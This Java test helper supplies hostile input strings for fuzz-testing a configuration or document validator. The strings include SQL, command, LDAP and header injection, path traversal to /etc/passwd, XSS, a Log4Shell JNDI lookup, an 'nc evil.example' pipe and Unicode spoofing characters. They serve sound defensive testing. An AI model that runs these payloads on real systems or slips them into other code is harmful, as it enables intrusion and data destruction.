package dev.cordon.testing;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cordon.document.Problem;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import tools.jackson.core.JsonPointer;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;
import tools.jackson.databind.node.StringNode;

/** What an attacker may call a thing, where it can stand, and what may become of it: refused, or kept as it is. */
public final class HostileText {

    public static final List<String> KNOWN = List.of(
            "'; DROP TABLE users; --",
            "\"",
            "$(reboot)",
            "${jndi:ldap://evil.example/a}",
            "${sg}",
            "`id`",
            "; rm -rf /",
            "| nc evil.example 1",
            "&& true",
            "\n- firewall_block: {}",
            "\r\nX-Header: 1",
            "\0",
            "*)(uid=*))(|(uid=*",
            "\\2a\\28",
            "CN=a,OU=b",
            "{\"a\": 1}",
            "[1, 2]",
            "%s%n",
            "../../etc/passwd",
            "\u001b[2J",
            "\u202egnp.exe",
            "\u200f",
            "\u0430dmin",
            "p\u0430yp\u0430l.example",
            "\uff41dmin",
            "\ud83d",
            "\ude00",
            "\ud83d\ude00",
            "\u2028",
            "\u0085",
            "<script>alert(1)</script>",
            "!!javax.script.ScriptEngineManager",
            "*alias",
            "&anchor",
            "--help",
            "-rf",
            "x' OR '1'='1",
            "a\tb",
            "\u2066evil\u2069",
            "\ufeffa",
            "null",
            "true",
            "a".repeat(10_240),
            "\"".repeat(10_240));

    private HostileText() {}

    /** Harmless at its ends, hostile in its middle, so that it does not fail at the first letter. */
    public static Arbitrary<String> any() {
        var ends = Arbitraries.of("", "a", "web1", "j.doe", "'", "/x");
        var middle = Arbitraries.oneOf(
                Arbitraries.of(KNOWN),
                Arbitraries.strings().ofMaxLength(40),
                Arbitraries.strings().ascii().ofMaxLength(20));
        return Combinators.combine(ends, middle, ends).as((before, text, after) -> before + text + after);
    }

    /** Each text of a document: a value, one in a list, or one inside a mapping. */
    public static List<JsonPointer> placesIn(JsonNode document) {
        var places = new ArrayList<JsonPointer>();
        collect(document, JsonPointer.empty(), places);
        return places;
    }

    private static void collect(JsonNode node, JsonPointer at, List<JsonPointer> into) {
        switch (node) {
            case ObjectNode object ->
                object.properties().forEach(one -> collect(one.getValue(), at.appendProperty(one.getKey()), into));
            case ArrayNode array -> {
                for (var i = 0; i < array.size(); i++) {
                    collect(array.get(i), at.appendIndex(i), into);
                }
            }
            case StringNode _ -> into.add(at);
            default -> {}
        }
    }

    /** A copy of the document that has the text at this place. */
    public static JsonNode put(JsonNode document, JsonPointer place, String text) {
        var copy = document.deepCopy();
        switch (copy.at(place.head())) {
            case ObjectNode object -> object.put(place.last().getMatchingProperty(), text);
            case ArrayNode array -> array.set(place.last().getMatchingIndex(), StringNode.valueOf(text));
            default -> throw new AssertionError("no text at " + place);
        }
        return copy;
    }

    /** Letter by letter; a name of the DNS in its one spelling, in which nothing looks like something else. */
    public static void assertArrived(String value, String text) {
        if (value.chars().allMatch(c -> c < 128) && !text.chars().allMatch(c -> c < 128)) {
            assertThat(value).matches("(.*@)?(.*\\.)?xn--[a-z0-9._-]+");
        } else {
            assertThat(value).isIn(text, text.replaceFirst("\\.$", "").toLowerCase(Locale.ROOT));
        }
    }

    public static void assertFitForATerminal(List<Problem> problems) {
        assertThat(problems)
                .isNotEmpty()
                .allSatisfy(problem -> assertThat(problem.toString())
                        .hasSizeLessThan(2000)
                        .doesNotMatch("(?s).*[\\p{Cntrl}\\p{Cf}\\p{Cs}\\p{Zl}\\p{Zp}].*"));
    }
}
